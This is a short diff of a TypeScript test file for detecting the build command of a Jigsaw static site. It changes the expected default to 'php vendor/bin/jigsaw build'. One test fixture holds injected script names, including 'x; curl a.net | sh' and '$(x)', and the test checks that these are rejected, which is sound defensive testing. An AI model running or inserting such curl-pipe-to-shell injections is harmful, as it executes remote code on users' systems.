@@ -95,7 +95,7 @@ for (const [name, more, expected] of foldersOf) {
 }
 
 const commands: readonly (readonly [Readonly<Record<string, string>>, string])[] = [
-  [{}, 'vendor/bin/jigsaw build'],
+  [{}, 'php vendor/bin/jigsaw build'],
   [
     {
       'package.json':
@@ -117,10 +117,10 @@ const commands: readonly (readonly [Readonly<Record<string, string>>, string])[]
       'package.json': '{"scripts": {"x; curl a.net | sh": "jigsaw build", "--x": "jigsaw build"}}',
       'composer.json': '{"scripts": {"$(x)": "jigsaw build"}}',
     },
-    'vendor/bin/jigsaw build',
+    'php vendor/bin/jigsaw build',
   ],
-  [{ 'package.json': '{"scr' }, 'vendor/bin/jigsaw build'],
-  [{ 'package.json': 'null' }, 'vendor/bin/jigsaw build'],
+  [{ 'package.json': '{"scr' }, 'php vendor/bin/jigsaw build'],
+  [{ 'package.json': 'null' }, 'php vendor/bin/jigsaw build'],
 ];
 
 for (const [files, command] of commands) {
